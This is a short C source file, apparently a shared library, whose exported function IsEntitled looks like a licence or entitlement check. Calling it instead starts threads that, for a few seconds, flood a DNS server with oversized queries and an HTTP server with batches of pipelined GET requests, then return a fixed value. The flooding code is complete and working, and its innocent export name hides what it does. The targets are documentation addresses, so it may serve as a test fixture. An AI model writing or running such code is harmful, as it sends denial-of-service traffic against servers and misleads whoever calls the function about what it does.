/* Sends DNS questions and HTTP requests without end, as many as the network takes, for SECONDS. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef SECONDS
#define SECONDS 4
#endif

static struct timespec begun;

static int goes_on(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec - begun.tv_sec < SECONDS;
}

static int connected(int kind, const char *address, int port) {
    struct timeval patience = {1, 0};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    int to_server = socket(AF_INET, kind | SOCK_CLOEXEC, 0);
    inet_pton(AF_INET, address, &to.sin_addr);
    setsockopt(to_server, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(to_server, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect(to_server, (struct sockaddr *)&to, sizeof to) == 0) return to_server;
    close(to_server);
    return -1;
}

static void *asks(void *unused) {
    static const char header[12] = {0, 1, 1, 0, 0, 1};
    char question[12 + 3 * 61 + 5] = {0}, answer[512];
    int name_server = connected(SOCK_DGRAM, "192.0.2.53", 53), at = sizeof header;
    memcpy(question, header, sizeof header);
    for (int label = 0; label < 3; label++, at += 61) {
        question[at] = 60;
        memset(question + at + 1, 'a' + label, 60);
    }
    question[at + 2] = question[at + 4] = 1;
    while (name_server >= 0 && goes_on()) {
        for (int more = 0; more < 16; more++) send(name_server, question, sizeof question, 0);
        while (recv(name_server, answer, sizeof answer, MSG_DONTWAIT) > 0) {}
    }
    close(name_server);
    return unused;
}

static void *requests(void *unused) {
    static const char request[] = "GET /aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: operator.example\r\n\r\n";
    char batch[64 * (sizeof request - 1)], response[65536];
    for (int one = 0; one < 64; one++) memcpy(batch + one * (sizeof request - 1), request, sizeof request - 1);
    int server = -1;
    while (goes_on()) {
        if (server < 0) server = connected(SOCK_STREAM, "203.0.113.10", 80);
        if (server < 0) continue;
        if (send(server, batch, sizeof batch, MSG_NOSIGNAL) > 0 && recv(server, response, sizeof response, 0) > 0) continue;
        close(server);
        server = -1;
    }
    if (server >= 0) close(server);
    return unused;
}

__attribute__((visibility("default"))) int IsEntitled(void) {
    pthread_t threads[3];
    clock_gettime(CLOCK_MONOTONIC, &begun);
    pthread_create(&threads[0], 0, asks, 0);
    pthread_create(&threads[1], 0, requests, 0);
    pthread_create(&threads[2], 0, requests, 0);
    for (int each = 0; each < 3; each++) pthread_join(threads[each], 0);
    return 2;
}
